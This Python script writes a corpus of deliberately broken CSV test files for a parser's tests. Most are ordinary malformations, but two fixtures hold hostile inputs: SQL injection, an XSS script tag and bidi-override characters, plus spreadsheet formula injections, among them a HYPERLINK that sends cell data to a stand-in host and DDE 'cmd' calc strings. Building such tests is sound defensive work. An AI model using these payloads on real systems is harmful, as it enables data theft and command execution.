#!/usr/bin/env python3
"""Writes the broken-CSV corpus next to this script (run it again after editing; the files are committed).

Every data record that can be read carries its physical line number in column `id` (header = line 1), so the test
can check that output rows + rejected lines cover every line of the input exactly once. The 10 MB lines are not
here: the test generates them (see BrokenCsvCorpusTests)."""
import os

here = os.path.dirname(os.path.abspath(__file__))


def write(name, data):
    with open(os.path.join(here, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


write("unbalanced-quotes.csv",
      'id,name,country\n'
      '2,ACME GMBH,DE\n'
      '3,"UNCLOSED NAME LTD,GB\n'
      '4,BETA CORP,US\n'
      '5,"SIEMENS AG",DE\n'
      '6,ALPHA "THE BEST" INC,US\n'
      '7,"CLOSED" TRAILING TEXT,NL\n'
      '8,"MULTI\nLINE GMBH",DE\n'
      '10,GAMMA BV,NL\n'
      '11,"NEVER CLOSED AT END OF FILE,DE\n')

write("wrong-field-counts.csv",
      'id,name,country\n'
      '2,ACME GMBH,DE\n'
      '3,TOO FEW FIELDS\n'
      '4,TOO,MANY,FIELDS,HERE\n'
      '\n'
      '6,,\n'
      '7,DELTA SA,FR\n'
      ',,,,,,,,,,\n'
      '9,"QUOTED, WITH COMMA",GB\n')

write("nul-bytes.csv",
      'id,name,country\n'
      '2,ACME GMBH,DE\n'
      '3,NUL\x00INSIDE LTD,GB\n'
      '4,"QUOTED \x00 NUL",US\n'
      '\x00\x00\x00\x00\n'
      '6,OMEGA KK,JP\n'
      '7,TRAILING NUL,DE\x00\n')

write("mixed-line-endings.csv",
      'id,name,country\r\n'
      '2,LF ENDED GMBH,DE\n'
      '3,CRLF ENDED LTD,GB\r\n'
      '4,CR ENDED SARL,FR\r'
      '5,ANOTHER CR BV,NL\r'
      '6,"QUOTED\r\nCRLF BREAK AG",CH\r\n'
      '8,"QUOTED\rCR BREAK AB",SE\n'
      '10,NO FINAL LINE END OY,FI')

write("cr-only-line-endings.csv",
      'id,name,country\r2,OLD MAC EXPORT INC,US\r3,SECOND ROW GMBH,DE\r4,THIRD ROW SPA,IT\r')

write("invalid-utf8.csv",
      'id,name,country\n'.encode() +
      '2,MÜLLER GMBH,DE\n'.encode('utf-8') +
      b'3,M\xdcLLER FROM 1252 GMBH,DE\n' +
      b'4,OVERLONG \xc0\x80 NUL,DE\n' +
      b'5,LONE CONTINUATION \x80\x81 BYTES,DE\n' +
      b'6,SURROGATE \xed\xa0\x80 HALF,DE\n' +
      b'7,TRUNCATED AT END,DE \xe2\x82')

rows_utf16 = ('id,name,country\r\n'
              '2,MÜLLER GMBH,DE\r\n'
              '3,株式会社 日立製作所,JP\r\n'
              '4,WRONG,FIELD,COUNT,HERE\r\n'
              '5,"QUOTED, NAME, LLC",US\r\n'
              '6,ΑΘΗΝΑ Α.Ε.,GR\r\n')
write("utf16le-bom.csv", b'\xff\xfe' + rows_utf16.encode('utf-16-le'))
write("utf16be-bom.csv", b'\xfe\xff' + rows_utf16.encode('utf-16-be'))
# An odd final byte and an unpaired surrogate: not valid UTF-16 either.
write("utf16le-broken.csv", b'\xff\xfe' + 'id,name,country\n2,ACME GMBH,DE\n3,LONE '.encode('utf-16-le') +
      b'\x00\xd8' + ' SURROGATE LTD,GB\n4,ODD END,DE\n'.encode('utf-16-le') + b'A')

write("empty.csv", b'')
write("bom-only.csv", b'\xef\xbb\xbf')
write("blank-lines-only.csv", '\n\n\n')
write("header-only.csv", 'id,name,country\n')
write("header-only-no-line-end.csv", 'id,name,country')
write("duplicate-name-column.csv",
      'id,name,country,name\n'
      '2,ACME GMBH,DE,ACME HOLDING GMBH\n')
write("duplicate-other-columns.csv",
      'id,name,country,country,note,note\n'
      '2,ACME GMBH,DE,AT,a,b\n'
      '3,BETA LTD,GB,IE,c,d\n')
write("missing-name-column.csv",
      'id,applicant,country\n'
      '2,ACME GMBH,DE\n')
write("semicolon-delimited.csv",
      'id;name;country\n'
      '2;ACME GMBH;DE\n')
write("tab-delimited.csv",
      'id\tname\tcountry\n'
      '2\tACME GMBH\tDE\n')
write("trailing-delimiter.csv",
      'id,name,country,\n'
      '2,ACME GMBH,DE,\n'
      '3,BETA LTD,GB\n'
      '4,GAMMA SA,FR,,\n'
      '5,DELTA AB,SE,\n')
write("bom-quoted-header.csv",
      '\ufeff"id","name","country"\r\n'
      '"2","ACME GMBH","DE"\r\n'
      '"3","BETA ""THE FIRST"" LTD","GB"\r\n'
      '"4","",""\r\n'
      '"5","SIEMENS AKTIENGESELLSCHAFT","DE"\r\n')
write("header-unbalanced-quote.csv",
      'id,"name,country\n'
      '2,ACME GMBH,DE\n')
write("header-with-nul.csv",
      'id,na\x00me,country\n'
      '2,ACME GMBH,DE\n')
write("whitespace-and-case-header.csv",
      ' ID , Name , Country \n'
      '2,ACME GMBH,DE\n'
      '3,  BETA   LTD  ,GB\n')
write("hostile-names.csv",
      'id,name,country\n'
      "2,'; DROP TABLE entities;--,GB\n"
      '3,<script>alert(1)</script>,US\n'
      '4,""" OR 1=1 --",US\n'
      '5,=HYPERLINK("http://x")&CMD,DE\n'
      '6,\u202eEVIL\u202c GMBH \u2066RTL\u2069,DE\n'
      '7,A\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 CORP,US\n'
      '8,\U0001F680\U0001F680 ROCKET \U0001F680 INC,US\n'
      '9,\u200b\u200d\ufeff,US\n'
      '10,!!! ??? ...,US\n'
      '11,' + 'LONG NAME ' * 500 + 'GMBH,DE\n'
      '12,ACME 株式会社 Технопарк GmbH,JP\n'
      '13,\x01\x02\x03 CONTROL \x1b[31m CHARS \x7f LTD,GB\n'
      '14,' + ('A; ' * 300) + 'B,DE\n')
write("formula-names.csv",
      'id,name,country\n'
      '2,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",DE\n'
      '3,+SUM(A1:A9),US\n'
      "4,-2+3+cmd|' /C calc'!A0,GB\n"
      '5,@SUM(1+1)*cmd|\' /C calc\'!A0,FR\n'
      '6,\tTAB LED GMBH,DE\n'
      '7,"\r\n=CRLF LED LTD",US\n'
      '9,-,DE\n'
      '10,ACME GMBH,=1+1\n'
      '11,PLAIN NAME LTD,GB\n')
